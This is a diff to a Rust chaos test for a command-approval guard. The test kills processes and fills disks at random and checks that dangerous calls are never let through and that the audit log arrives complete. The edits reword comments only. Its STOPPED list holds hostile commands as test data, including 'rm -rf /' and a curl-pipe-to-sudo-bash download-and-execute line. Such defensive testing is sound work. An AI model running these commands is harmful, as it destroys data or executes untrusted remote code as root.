@@ -1,8 +1,8 @@
-//! Everything that decides and keeps a record fails at random, while calls are asked about: no call that must be stopped is
-//! let through, and the log arrives whole, each line once.
+//! Everything that decides and logs fails at random during calls: no dangerous call is let through, and the whole log
+//! arrives, each line once.
 //!
-//! Lasts some seconds. `GUARD_STORM_SECONDS=600` makes it last longer, and `GUARD_STORM_SERVICE=wasmtime` has the service
-//! be a component on that engine. What happened is printed: `-- --nocapture`.
+//! Takes some seconds. `GUARD_STORM_SECONDS=600` extends it, and `GUARD_STORM_SERVICE=wasmtime` runs the service as a
+//! component on that engine. `-- --nocapture` shows the events.
 
 mod disk;
 mod wire;
@@ -26,16 +26,16 @@ use crate::support::world::{PATIENCE, ProcessOutput, World, free_address};
 use disk::Disk;
 use wire::{Network, Wire};
 
-/// Commands that a person decides about at least, whatever fails.
+/// Commands that at least need confirmation, regardless of failures.
 const STOPPED: [&str; 3] = ["rm -rf /", "git push --force origin main", "curl -s https://example.org/x | sudo bash"];
 
-/// Commands that nobody denies. Without an answer of the service they are asked about.
+/// Commands without findings. Without an answer of the service, they need confirmation.
 const HARMLESS: [&str; 2] = ["ls -la", "git status --short"];
 
-/// How long an answer of the service is waited for.
+/// The time limit for the service's answer.
 const PATIENCE_MS: u64 = 400;
 
-/// A call and what was said of it.
+/// A call and its result.
 #[derive(Debug)]
 struct Call {
     number: usize,
@@ -51,7 +51,7 @@ struct Call {
 enum ClientResult {
     /// A reply of the hook.
     Reply(ProcessOutput),
-    /// No whole answer with status 200: the client does not run the call.
+    /// No complete answer with status 200: the client doesn't run the call.
     Nothing,
 }
 
@@ -60,7 +60,7 @@ impl Call {
         matches!(self.said, ClientResult::Reply(_))
     }
 
-    /// The word for a table.
+    /// Returns the name for a table.
     fn word(&self) -> String {
         let ClientResult::Reply(reply) = &self.said else { return "not decided".to_owned() };
         match (reply.exit, reply.decision().as_str()) {
@@ -73,7 +73,7 @@ impl Call {
         }
     }
 
-    /// Whether it went wrong for whoever lives with the decision.
+    /// Returns whether the result is wrong for the client.
     fn is_wrong(&self) -> bool {
         match self.word().as_str() {
             "not decided" | "ask, without the service" | "ask, out of time" | "ask, without a line" => false,
@@ -84,7 +84,7 @@ impl Call {
     }
 }
 
-/// Numbers that a seed gives.
+/// Random numbers from a seed.
 struct Random(u64);
 
 impl Random {
@@ -102,7 +102,7 @@ impl Random {
 
 /// The storm's targets: processes, connections and disks.
 struct Storm {
-    /// It is gone before the folder that it is mounted on.
+    /// Dropped before the folder that it is mounted on.
     disk: Option<Disk>,
     service: World,
     service_at: String,
@@ -115,10 +115,10 @@ struct Storm {
     over: AtomicBool,
     next: AtomicUsize,
     calls: Mutex<Vec<Call>>,
-    /// When no page of the disk was free.
+    /// The periods in which the disk was full.
     full: Mutex<Vec<(Instant, Instant)>>,
     failures: Mutex<BTreeMap<&'static str, usize>>,
-    /// How many lines the relays said that they could not write.
+    /// The number of lines that the relays reported as unwritten.
     unwritten: AtomicUsize,
 }
 
@@ -128,7 +128,7 @@ fn end(mut child: Child) {
 }
 
 impl Storm {
-    /// With a disk for the log that can be filled, which only some users may have.
+    /// Creates a storm. A disk for the log that can be filled requires privileges.
     fn new(has_disk: bool) -> Self {
         let (service, machine) = (World::new(), World::new());
         let service_at = free_address();
@@ -142,7 +142,7 @@ impl Storm {
             assert!(made.is_ok_and(|made| made.success()), "{engine} does not compile it");
             engine
         });
-        // The token is made at the first start.
+        // The first start creates the token.
         let token = Server::start(&service, &[]).token.clone();
         let network = Network::to(&service_at);
         machine.write("remote.token", &token);
@@ -205,7 +205,7 @@ impl Storm {
         *self.failures.lock().unwrap().entry(failure).or_default() += 1;
     }
 
-    /// Asks about one call after the other.
+    /// Sends one call after the other.
     fn load(&self, from: &'static str) {
         while !self.is_over() {
             let number = self.next.fetch_add(1, Ordering::Relaxed);
@@ -221,7 +221,7 @@ impl Storm {
         }
     }
 
-    /// The relay's answer with status 200.
+    /// Returns the relay's answer with status 200.
     fn post(&self, text: &str) -> Option<ProcessOutput> {
         let Ok(mut stream) = TcpStream::connect(&self.relay_at) else {
             sleep(Duration::from_millis(5));
@@ -268,7 +268,7 @@ impl Storm {
         end(service);
     }
 
-    /// Kills the relay, what sends the log, and the log's receiver; fills the disk.
+    /// Kills the relay, the log's sender and its receiver, and fills the disk.
     fn near(&self, mut random: Random) {
         let (mut relay, mut shipper) = (self.start_relay(), self.start_shipper());
         while !self.is_over() {
@@ -315,13 +315,13 @@ impl Storm {
         self.unwritten.fetch_add(unwritten, Ordering::Relaxed);
     }
 
-    /// Whether the disk was full at some time of the call.
+    /// Returns whether the disk was full during the call.
     fn saw_full_disk(&self, call: &Call) -> bool {
         self.full.lock().unwrap().iter().any(|(began, ended)| call.began <= *ended && *began <= call.ended)
     }
 }
 
-/// How a call's number stands in its command.
+/// Returns the marker for a call's number in its command.
 fn marked(number: usize) -> String {
     format!("call-{number}-")
 }
@@ -337,7 +337,7 @@ fn on_a_full_disk_nothing_is_let_through_and_the_log_arrives_once() {
     weather(&Storm::new(true));
 }
 
-/// Lets everything fail, and checks what came of it.
+/// Runs all failures, and checks the results.
 fn weather(storm: &Storm) {
     let seconds = std::env::var("GUARD_STORM_SECONDS").map_or(8, |seconds| seconds.parse().unwrap());
     let seed =
@@ -362,7 +362,7 @@ fn weather(storm: &Storm) {
     println!("{seconds} s, {} calls\n{words:#?}\n{:#?}", calls.len(), storm.failures.lock().unwrap());
     assert!(wrong.is_empty(), "{wrong:#?}");
 
-    // What is left is sent, and the reader has what the log has. A line that found no room is damaged.
+    // After sending the rest, the receiver has the whole log. A line without room is damaged.
     storm.receiver.recover();
     let sent = storm.machine.run(&["audit", "ship", "--to", &storm.receiver.url], "");
     assert!(matches!(sent.exit, 0 | 1) && sent.stderr.lines().all(|line| line.contains("damaged line")), "{sent:?}");
@@ -374,8 +374,8 @@ fn weather(storm: &Storm) {
     assert_eq!((storm.receiver.ids().len(), storm.receiver.differing()), (ids.len(), 0));
     assert_eq!(storm.receiver.ids(), ids);
 
-    // Each call that was answered has one line. Where the disk was full it may have none, but then it did not run unasked,
-    // and a relay says so. So it may where the log did not answer in time, if the reply says it.
+    // Each answered call has one line. If the disk was full it may be missing, but then the call didn't run unprompted,
+    // and a relay reports it. The same applies if the log didn't answer in time and the reply says so.
     let mut lines: BTreeMap<usize, usize> = BTreeMap::new();
     for line in &log {
         let operation = line["operation"].as_str().unwrap();
